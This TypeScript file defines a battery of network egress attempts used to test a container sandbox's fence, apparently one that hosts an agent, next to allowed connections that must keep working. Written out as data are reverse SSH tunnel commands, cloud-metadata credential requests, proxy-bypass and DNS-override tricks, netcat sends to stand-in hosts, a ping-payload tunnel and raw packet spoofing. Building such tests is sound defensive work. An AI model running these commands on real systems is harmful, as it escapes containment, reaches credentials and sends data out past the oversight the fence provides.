import { attack, heardAtHost, heardAtNeighbour, packetsFor, type Attack } from './attack.ts';
import { lab } from './lab.ts';
import type { Packet } from './packets.ts';

/** "Egress by road" of the list of attacks. Whatever gets through is told by a destination that only it dials. */
export const DOCS = { name: 'docs.example.test', address: '192.0.2.50' } as const;
export const GIT = { name: 'git.example.test', address: '192.0.2.30' } as const;
/** Listed, and never asked for in this battery. */
export const UNASKED = { name: 'multi.example.test', address: '192.0.2.41' } as const;
export const WRITTEN = '192.0.2.44';
export const WRITTEN_FTP = '192.0.2.45';

const tcp = (packet: Packet): boolean => packet.protocol === 'tcp';
const to =
  (protocol: string, port: number) =>
  (packet: Packet): boolean =>
    packet.protocol === protocol && packet.destinationPort === port;
const is =
  (...protocols: readonly string[]) =>
  (packet: Packet): boolean =>
    protocols.includes(packet.protocol);

const CURL = 'curl -sSk --max-time 3 -o /dev/null';
const SSH =
  'timeout 3 ssh -v -N -T -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -R 0:127.0.0.1:22';
const NO_ROUTE = 'the engine and the kernel route it nowhere';

/** What is granted and must work in the middle of all that: the twin of every attack below. */
export const GRANTED_ROADS: readonly Attack[] = [
  attack({
    id: 'granted-name',
    attempt: `curl -sS --cacert /agent/lab-ca.crt --max-time 5 https://${DOCS.name}/`,
    through: ({ seen }) => seen.filter((each) => each.detail === `GET ${DOCS.name}/`).map((each) => each.detail),
  }),
  attack({
    id: 'granted-address',
    attempt: `${CURL} https://${WRITTEN}/`,
    through: packetsFor(WRITTEN, to('tcp', 443)),
  }),
  attack({
    id: 'granted-datagrams',
    attempt: `raw udp ${WRITTEN} 9999`,
    through: packetsFor(WRITTEN, to('udp', 9999)),
  }),
  attack({
    id: 'granted-ssh',
    attempt: `${SSH} -p 22 operator@${GIT.name}`,
    through: ({ seen }) =>
      seen.filter((each) => each.server === 'ssh' && each.localAddress === GIT.address).map((each) => each.server),
  }),
];

const HOSTS: readonly Attack[] = [
  attack({ id: 'other-https', attempt: `${CURL} https://203.0.113.101/`, through: packetsFor('203.0.113.101') }),
  attack({ id: 'other-http', attempt: `${CURL} http://203.0.113.102/`, through: packetsFor('203.0.113.102') }),
  attack({
    id: 'address-of-listed-name',
    attempt: `${CURL} --resolve ${UNASKED.name}:443:${UNASKED.address} https://${UNASKED.name}/`,
    through: packetsFor(UNASKED.address),
  }),
  attack({
    id: 'unrelated-address',
    attempt: 'echo x | nc -n -N -w 2 198.51.100.104 9999',
    through: packetsFor('198.51.100.104'),
  }),
  attack({
    id: 'other-port',
    attempt: `echo x | nc -n -N -w 2 ${WRITTEN} 8443`,
    through: packetsFor(WRITTEN, to('tcp', 8443)),
  }),
  attack({
    id: 'other-port-of-name',
    attempt: `getent hosts ${DOCS.name}; echo x | nc -n -N -w 2 ${DOCS.address} 8443`,
    through: packetsFor(DOCS.address, to('tcp', 8443)),
  }),
  attack({
    id: 'udp-on-tcp-port',
    attempt: `getent hosts ${DOCS.name}; raw udp ${DOCS.address} 443; raw udp ${WRITTEN} 443`,
    through: (arrivals) => [
      ...packetsFor(WRITTEN, to('udp', 443))(arrivals),
      ...packetsFor(DOCS.address, to('udp', 443))(arrivals),
    ],
  }),
  attack({
    id: 'tcp-on-udp-port',
    attempt: `echo x | nc -n -N -w 2 ${WRITTEN} 9999`,
    through: packetsFor(WRITTEN, to('tcp', 9999)),
  }),
  attack({
    id: 'redirect',
    attempt: `${CURL} -L 'https://${DOCS.name}/redirect?to=http://203.0.113.141/'`,
    through: packetsFor('203.0.113.141'),
  }),
];

const PROXIES: readonly Attack[] = [
  attack({
    id: 'proxy-set',
    attempt: `HTTPS_PROXY=http://203.0.113.107:3000 https_proxy=http://203.0.113.107:3000 ${CURL} https://${DOCS.name}/`,
    through: packetsFor('203.0.113.107'),
  }),
  attack({
    id: 'proxy-socks',
    attempt: `ALL_PROXY=socks5h://203.0.113.108:8080 ${CURL} https://evil.example.test/`,
    through: packetsFor('203.0.113.108'),
  }),
  attack({
    id: 'proxy-emptied',
    attempt: `HTTP_PROXY= HTTPS_PROXY= ALL_PROXY= no_proxy='*' ${CURL} https://203.0.113.109/`,
    through: packetsFor('203.0.113.109'),
  }),
  attack({
    id: 'proxy-unset',
    attempt: `unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy; ${CURL} --noproxy '*' https://203.0.113.110/`,
    through: packetsFor('203.0.113.110'),
  }),
  attack({
    id: 'connect-to',
    attempt: `${CURL} --connect-to ${DOCS.name}:443:203.0.113.111:443 https://${DOCS.name}/`,
    through: packetsFor('203.0.113.111'),
  }),
  attack({
    id: 'resolve',
    attempt: `${CURL} --resolve ${DOCS.name}:443:203.0.113.112 https://${DOCS.name}/`,
    through: packetsFor('203.0.113.112'),
  }),
  attack({
    id: 'clean-static-binary',
    attempt: `env -i /usr/bin/busybox nc -w 2 203.0.113.113 80 -e /usr/bin/busybox echo x; env -i /usr/bin/busybox wget -T 2 -O- http://203.0.113.113/`,
    through: packetsFor('203.0.113.113'),
  }),
  attack({
    id: 'socat-relay',
    attempt: `echo x | socat -t 1 - TCP4:203.0.113.114:443,connect-timeout=2`,
    through: packetsFor('203.0.113.114'),
  }),
  attack({
    id: 'openssl-client',
    attempt: `echo x | openssl s_client -connect 203.0.113.115:443 -servername ${DOCS.name}`,
    through: packetsFor('203.0.113.115'),
  }),
];

const RANGES: readonly Attack[] = [
  attack({
    id: 'metadata',
    attempt: `${CURL} http://169.254.169.254/latest/meta-data/`,
    through: packetsFor('169.254.169.254', to('tcp', 80)),
  }),
  attack({
    id: 'metadata-token',
    attempt: `${CURL} -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254:8080/latest/api/token`,
    through: packetsFor('169.254.169.254', to('tcp', 8080)),
  }),
  attack({
    id: 'metadata-by-name',
    attempt: `${CURL} --resolve metadata.google.internal:3000:169.254.169.254 -H 'Metadata-Flavor: Google' http://metadata.google.internal:3000/`,
    through: packetsFor('169.254.169.254', to('tcp', 3000)),
  }),
  attack({
    id: 'metadata-udp',
    attempt: 'raw udp 169.254.169.254 123',
    through: packetsFor('169.254.169.254', to('udp', 123)),
  }),
  ...[
    ['private-10', '10.1.2.3'],
    ['private-172', '172.16.5.5'],
    ['private-192', '192.168.7.7'],
    ['carrier', '100.64.9.1'],
    ['carrier-metadata', '100.100.100.200'],
    ['link-local', '169.254.7.7'],
  ].map(([id = '', address = '']) =>
    attack({
      id,
      attempt: `echo x | nc -n -N -w 1 ${address} 80; raw udp ${address} 9999; ping -n -c 1 -W 1 ${address}`,
      through: packetsFor(address),
    }),
  ),
  attack({
    id: 'internal-service',
    attempt: `echo x | nc -n -N -w 2 ${lab.internalAddress} 5432`,
    through: packetsFor(lab.internalAddress),
  }),
  attack({
    id: 'reserved',
    attempt: 'for a in 240.1.2.3 255.255.255.254; do raw udp $a 9999; echo x | nc -n -N -w 1 $a 80; done',
    through: (arrivals) => [...packetsFor('240.1.2.3')(arrivals), ...packetsFor('255.255.255.254')(arrivals)],
    blunt: NO_ROUTE,
  }),
];

const HOST: readonly Attack[] = [
  ...[
    ['gateway', '$GATEWAY'],
    ['host-uplink', lab.hostAddress],
    ['host-bridge', '$BRIDGE'],
  ].flatMap(([name = '', address = '']) => [
    attack({
      id: `${name}-tcp`,
      attempt: `echo ${name} | nc -n -N -w 2 ${address} $HOST_PORT`,
      through: heardAtHost(new RegExp(`^tcp \\S+ ${name}$`)),
    }),
    attack({
      id: `${name}-udp`,
      attempt: `echo ${name} | nc -n -u -q 0 -w 1 ${address} $HOST_PORT`,
      through: heardAtHost(new RegExp(`^udp \\S+ ${name}$`)),
    }),
  ]),
  attack({
    id: 'host-dns-port',
    attempt:
      'echo host-dns-port | nc -n -N -w 1 $GATEWAY $GATE_PORT; echo host-dns-port | nc -n -u -q 0 -w 1 $GATEWAY $GATE_PORT',
    through: heardAtHost(/host-dns-port$/),
    blunt: 'without a fence there is no gate; that it answers on its own port alone is asserted apart',
  }),
  attack({
    id: 'host-ping',
    attempt: `ping -n -c 2 -W 1 $GATEWAY; ping -n -c 2 -W 1 ${lab.hostAddress}`,
    through: heardAtHost(/^echo requests/),
  }),
  attack({
    id: 'host-by-name',
    attempt: `getent hosts host.docker.internal gateway.docker.internal host.containers.internal; ${CURL} http://host.docker.internal:$HOST_PORT/`,
    through: ({ queries }) =>
      queries.filter((query) => query.name.endsWith('.internal')).map((query) => `${query.type} ${query.name}`),
  }),
  attack({
    id: 'host-loopback',
    attempt:
      'echo host-loopback | nc -n -N -w 1 127.0.0.1 $HOST_PORT; echo host-loopback | nc -n -N -w 1 0.0.0.0 $HOST_PORT',
    through: heardAtHost(/host-loopback$/),
    blunt: 'it is the loopback of the container',
  }),
  attack({
    id: 'multicast',
    attempt: 'raw group 224.0.0.251 5353; raw group 239.255.255.250 1900',
    through: heardAtHost(/^group /),
  }),
  attack({
    id: 'broadcast',
    attempt: 'raw udp 255.255.255.255 7711; raw udp $BROADCAST 7711',
    through: heardAtHost(/^broadcast /),
  }),
];

const NEIGHBOUR: readonly Attack[] = [
  attack({
    id: 'neighbour-tcp',
    attempt: 'echo neighbour-tcp | nc -n -N -w 2 $NEIGHBOUR 8000',
    through: heardAtNeighbour('neighbour-tcp'),
  }),
  attack({
    id: 'neighbour-udp',
    attempt: 'echo neighbour-udp | nc -n -u -q 0 -w 1 $NEIGHBOUR 8001',
    through: heardAtNeighbour('neighbour-udp'),
  }),
  attack({
    id: 'neighbour-by-name',
    attempt: 'echo neighbour-by-name | nc -N -w 2 $NEIGHBOUR_NAME 8000',
    through: heardAtNeighbour('neighbour-by-name'),
  }),
  attack({
    id: 'neighbour-gateway',
    attempt: 'echo neighbour-gateway | nc -n -N -w 2 $NEIGHBOUR_GATEWAY $HOST_PORT',
    through: heardAtHost(/neighbour-gateway$/),
  }),
];

const SIX: readonly Attack[] = [
  attack({
    id: 'six-http',
    attempt: `${CURL} http://[2001:db8:ff00::101]/; ping -6 -n -c 1 -W 1 2001:db8:ff00::101`,
    through: packetsFor('2001:db8:ff00::101'),
  }),
  attack({
    id: 'six-metadata',
    attempt: `${CURL} http://[fd00:ec2::254]/latest/meta-data/`,
    through: packetsFor('fd00:ec2::254'),
  }),
  attack({
    id: 'six-mapped',
    attempt: `${CURL} http://[::ffff:203.0.113.131]/`,
    through: packetsFor('203.0.113.131'),
  }),
  attack({
    id: 'six-by-name',
    attempt: `curl -6 -sSk --max-time 3 https://evil.example.test/`,
    through: packetsFor('2001:db8:ff00::66'),
  }),
  attack({ id: 'six-teredo', attempt: 'raw udp 203.0.113.130 3544', through: packetsFor('203.0.113.130') }),
];

const PROTOCOLS: readonly Attack[] = [
  attack({
    id: 'ping',
    attempt: 'ping -n -c 2 -i 0.2 -W 1 203.0.113.132',
    through: packetsFor('203.0.113.132', is('icmp')),
  }),
  attack({
    id: 'ping-tunnel',
    attempt: 'ping -n -c 3 -i 0.2 -W 1 -s 1200 -p 7365637265742d 203.0.113.133',
    through: packetsFor('203.0.113.133', is('icmp')),
  }),
  attack({
    id: 'ping-granted',
    attempt: `ping -n -c 2 -i 0.2 -W 1 ${WRITTEN}`,
    through: packetsFor(WRITTEN, is('icmp')),
  }),
  attack({ id: 'quic', attempt: 'raw quic 203.0.113.134', through: packetsFor('203.0.113.134', is('udp')) }),
  attack({
    id: 'big-datagrams',
    attempt: 'raw udp 203.0.113.143 9999 20000',
    through: packetsFor('203.0.113.143', is('udp')),
  }),
  attack({
    id: 'ftp-helper',
    attempt: `raw ftp ${WRITTEN_FTP}`,
    through: packetsFor('203.0.113.144', tcp),
  }),
];

const TUNNELS: readonly Attack[] = [
  attack({
    id: 'reverse-ssh',
    attempt: `${SSH} -p 22 operator@${lab.sshHost}`,
    through: packetsFor(lab.sshHost, to('tcp', 22)),
  }),
  attack({
    id: 'reverse-ssh-443',
    attempt: `${SSH} -p 443 operator@${lab.sshHost}`,
    through: packetsFor(lab.sshHost, to('tcp', 443)),
  }),
  attack({
    id: 'reverse-ssh-renamed',
    attempt: `raw as-other-name /usr/bin/${SSH.slice('timeout 3 '.length)} -p 22 operator@203.0.113.150`,
    through: packetsFor('203.0.113.150'),
  }),
  attack({
    id: 'reverse-ssh-connect',
    attempt: `${SSH} -o 'ProxyCommand=nc -X connect -x 203.0.113.151:8080 %h %p' -p 22 operator@${lab.sshHost}`,
    through: packetsFor('203.0.113.151'),
  }),
  attack({
    id: 'reverse-ssh-other-port',
    attempt: `${SSH} -p 3000 operator@${WRITTEN}`,
    through: packetsFor(WRITTEN, to('tcp', 3000)),
  }),
  attack({
    id: 'pool',
    attempt: 'echo {} | nc -n -N -w 2 198.51.100.20 3333',
    through: packetsFor('198.51.100.20'),
  }),
];

/** What needs raw sockets, which no profile grants: the fence must not depend on that. */
const RAW: readonly Attack[] = [
  attack({
    id: 'protocols',
    attempt: 'raw protocols 203.0.113.135',
    through: packetsFor('203.0.113.135'),
  }),
  attack({
    id: 'protocols-granted',
    attempt: `raw protocols ${WRITTEN} 2 4 41 47 50 51 132 136`,
    through: packetsFor(WRITTEN, (packet) => !is('tcp', 'udp', 'icmp')(packet)),
  }),
  attack({ id: 'fragments', attempt: 'raw fragments 203.0.113.142 9999', through: packetsFor('203.0.113.142') }),
  attack({
    id: 'fragments-hping',
    attempt: 'hping3 -q -c 2 -i u100000 -f -d 200 -S -p 443 203.0.113.145',
    through: packetsFor('203.0.113.145'),
  }),
  attack({
    id: 'spoofed-neighbour',
    attempt: 'raw spoof $NEIGHBOUR 203.0.113.146 443',
    through: packetsFor('203.0.113.146'),
  }),
  attack({
    id: 'spoofed-neighbour-granted',
    attempt: `raw spoof $NEIGHBOUR ${WRITTEN} 4444`,
    through: packetsFor(WRITTEN, (packet) => packet.destinationPort === 4444),
  }),
  attack({
    id: 'spoofed-outsider',
    attempt: `raw spoof 198.51.100.77 203.0.113.147 443; raw spoof ${lab.hostAddress} 203.0.113.147 443`,
    through: packetsFor('203.0.113.147'),
  }),
  attack({
    id: 'spoofed-loopback',
    attempt: 'raw frame4 127.0.0.1 203.0.113.148 443; raw frame4 0.0.0.0 203.0.113.148 443',
    through: packetsFor('203.0.113.148'),
    blunt: 'a host drops such sources as martians',
  }),
  attack({
    id: 'host-loopback-by-frame',
    attempt: 'raw frame4 $SELF 127.0.0.1 $HOST_PORT',
    through: heardAtHost(/^udp .*attack/),
    blunt: 'a host drops such destinations as martians, unless its engine lets them in',
  }),
  attack({
    id: 'other-address',
    attempt: 'raw own $SPARE; raw frame4 $SPARE 203.0.113.149 443; echo x | nc -n -N -s $SPARE -w 1 203.0.113.149 443',
    through: packetsFor('203.0.113.149'),
  }),
  attack({ id: 'states', attempt: 'raw states 203.0.113.152 443', through: packetsFor('203.0.113.152') }),
  attack({
    id: 'source-route',
    attempt: 'raw source-route 203.0.113.153 9999',
    through: packetsFor('203.0.113.153'),
    blunt: 'this host accepts no source routes',
  }),
  attack({
    id: 'six-frame',
    attempt: 'raw frame6 2001:db8:ff00::102 9999',
    through: packetsFor('2001:db8:ff00::102'),
  }),
  attack({
    id: 'vlan',
    attempt: 'raw vlan 203.0.113.154 9999',
    through: packetsFor('203.0.113.154'),
    blunt: 'the host has no interface for these tags',
  }),
  attack({
    id: 'arp',
    attempt: 'raw arp 192.0.2.1 $NEIGHBOUR $GATEWAY',
    through: heardAtHost(/^moved/),
    // On a plain bridge it deceives the container itself.
    apart: true,
    blunt: 'the host does not learn from what nobody asked for',
  }),
].map((each) => ({ ...each, rootOnly: true }));

export const ROADS: readonly Attack[] = [
  ...HOSTS,
  ...PROXIES,
  ...RANGES,
  ...HOST,
  ...NEIGHBOUR,
  ...SIX,
  ...PROTOCOLS,
  ...TUNNELS,
  ...RAW,
];
